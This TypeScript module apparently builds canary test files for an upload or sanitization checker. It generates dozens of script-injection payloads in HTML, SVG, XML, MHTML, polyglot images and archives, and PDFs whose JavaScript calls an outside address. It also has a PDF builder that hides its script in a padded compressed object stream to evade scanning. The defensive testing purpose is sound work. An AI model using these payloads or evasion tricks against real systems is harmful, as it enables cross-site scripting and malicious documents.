import { deflateSync } from 'node:zlib'

/** A file that tries to make a browser run a script. */
export type Body = { name: string; type: string; bytes: Buffer }

const latin = (text: string) => Buffer.from(text, 'latin1')
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
const base64 = (text: string) => Buffer.from(text).toString('base64')

const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAACklEQVR4nGMAAQAABQABDQottAAAAABJRU5ErkJggg=='
const svgOf = (inside: string, more = '') =>
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${more}>${inside}</svg>`
const pdfOf = (script: string, how: 'OpenAction' | 'AA' | 'Names') => {
  const action = `<</S/JavaScript/JS(${script.replace(/[()\\]/g, '\\$&')})>>`
  const hooks = {
    OpenAction: `/OpenAction ${action}`,
    AA: `/AA<</O ${action}/WC ${action}>>`,
    Names: `/Names<</JavaScript<</Names[(a) ${action}]>>>>`,
  }
  const objects = [
    `1 0 obj<</Type/Catalog/Pages 2 0 R${hooks[how]}>>endobj`,
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj',
  ]
  return latin(`%PDF-1.7\n${objects.join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF\n`)
}

/**
 * The catalog with the script is in an object stream, and the names that would reveal it are far apart, so that a search
 * for them in a part of the file finds nothing.
 */
export const hidingPdf = (script: string) => {
  const catalog = `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${script.replace(/[()\\]/g, '\\$&')})>>>>`
  const packed = deflateSync(latin(`1 0 ${catalog}`))
  const parts = [
    latin('%PDF-1.7\n'),
    latin('2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n'),
    latin('3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n'),
    Buffer.concat([
      latin(`4 0 obj<</Type/ObjStm${' '.repeat(300_000)}/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`),
      packed,
      latin('\nendstream endobj\n'),
    ]),
  ]
  const offsets = parts.map((_, n) => parts.slice(0, n).reduce((sum, { length }) => sum + length, 0))
  const start = parts.reduce((sum, { length }) => sum + length, 0)
  const entry = (type: number, position: number) =>
    Buffer.from([type, ...new Uint8Array([position >> 24, position >> 16, position >> 8, position]), 0])
  const entries = [entry(0, 0), entry(2, 4), ...[...offsets.slice(1), start].map((at) => entry(1, at))]
  const table = `5 0 obj<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length ${entries.length * 6}>>stream\n`
  return Buffer.concat([...parts, latin(table), ...entries, latin(`\nendstream endobj\nstartxref\n${start}\n%%EOF\n`)])
}

/** `call` is script that reports to the canary; `fetched` is an address that reports when it is requested. */
export function hostileBodies(call: string, fetched: string): Body[] {
  const attribute = call.replaceAll('"', '&quot;').replaceAll('<', '&lt;')
  const script = `<script>${call}</script>`
  const html = (inside: string) => Buffer.from(`<!doctype html><html><body>${inside}</body></html>`)
  const body = (name: string, type: string, bytes: Buffer | string): Body => ({
    name,
    type,
    bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
  })
  const page = (name: string, inside: string) => body(`${name}.html`, 'text/html', html(inside))
  const drawing = (name: string, inside: string, more = '') => body(`${name}.svg`, 'image/svg+xml', svgOf(inside, more))
  const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body>${script}</body></html></xsl:template></xsl:stylesheet>`
  const mhtml = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://office/\r\n\r\n<html>${script}</html>\r\n--b--\r\n`
  return [
    page('script', script),
    page('picture', `<img src="x:" onerror="${attribute}">`),
    page('load', `<iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe>`),
    page('address', `<iframe src="javascript:${attribute}"></iframe>`),
    page('details', `<details open ontoggle="${attribute}">x</details>`),
    page('focus', `<input autofocus onfocus="${attribute}">`),
    page('module', `<script type="module">${call}</script>`),
    page('fetched', `<script src="${fetched}"></script>`),
    page('vector', `<svg onload="${attribute}"></svg>`),
    page('style', `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${attribute}"></b>`),
    page('base', `<base href="${new URL(fetched).origin}/"><script src="fetched.js"></script>`),
    page('refresh', `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(script)}">`),
    page('object', `<object data="data:text/html;base64,${base64(script)}"></object>`),
    body('utf-16.html', 'text/html', utf16(`<html>${script}</html>`)),
    body('utf-7.html', 'text/html;charset=utf-7', `+ADw-script+AD4-${call}+ADw-/script+AD4-`),
    body('mark.html', 'text/html', `\ufeff<html>${script}`),
    body('late.html', 'text/html', Buffer.concat([Buffer.alloc(70_000, ' '), html(script)])),
    body('nothing.html', 'text/html', Buffer.concat([Buffer.alloc(600), html(script)])),
    drawing('script', `<script>${call.replaceAll('&', '&amp;')}</script>`),
    drawing('onload', '', ` onload="${attribute}"`),
    drawing('animate', `<animate attributeName="x" dur="1s" onbegin="${attribute}"/>`),
    drawing(
      'foreign',
      `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x:" onerror="${attribute}"/></body></foreignObject>`,
    ),
    drawing('fetched', `<script xlink:href="${fetched}"/>`),
    body(
      'entity.svg',
      'image/svg+xml',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e "${attribute}">]>${svgOf('', ' onload="&e;"').slice(21)}`,
    ),
    body(
      'page.xhtml',
      'application/xhtml+xml',
      `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${call.replaceAll('&', '&amp;')}</script></body></html>`,
    ),
    body(
      'space.xml',
      'text/xml',
      `<?xml version="1.0"?><x><h:script xmlns:h="http://www.w3.org/1999/xhtml">${call.replaceAll('&', '&amp;')}</h:script></x>`,
    ),
    body(
      'sheet.xml',
      'text/xml',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml;base64,${base64(sheet)}"?><x/>`,
    ),
    body('sheet.xsl', 'text/xsl', sheet),
    body('letter.mhtml', 'multipart/related; boundary="b"', mhtml),
    body('letter.eml', 'message/rfc822', mhtml),
    body('open.pdf', 'application/pdf', pdfOf(`${call};app.launchURL("${fetched}");app.alert("canary")`, 'OpenAction')),
    body('acts.pdf', 'application/pdf', pdfOf(`this.submitForm("${fetched}");app.alert("canary")`, 'AA')),
    body('names.pdf', 'application/pdf', pdfOf(`app.launchURL("${fetched}");app.alert("canary")`, 'Names')),
    body('hiding.pdf', 'application/pdf', hidingPdf(`app.launchURL("${fetched}");app.alert("canary")`)),
    body('page.pdf', 'application/pdf', Buffer.concat([latin('%PDF-1.7\n'), html(script)])),
    body('moving.gif', 'image/gif', Buffer.concat([latin('GIF89a/*\0\0\0\0*/=1;'), Buffer.from(`${call}//`), html(script)])),
    body('dot.png', 'image/png', Buffer.concat([Buffer.from(png, 'base64'), html(script)])),
    body(
      'photo.jpg',
      'image/jpeg',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x02, 0]), html(script), Buffer.from([0xff, 0xd9])]),
    ),
    body('map.bmp', 'image/bmp', Buffer.concat([latin('BM=1;/*\0\0\0\0\0\0*/'), Buffer.from(call)])),
    body('packed.zip', 'application/zip', Buffer.concat([latin('PK\x03\x04'), html(script)])),
    body('code.js', 'text/javascript', call),
    body('part.htc', 'text/x-component', `<PUBLIC:COMPONENT>${script}</PUBLIC:COMPONENT>`),
    body('app.hta', 'application/hta', html(script)),
  ]
}
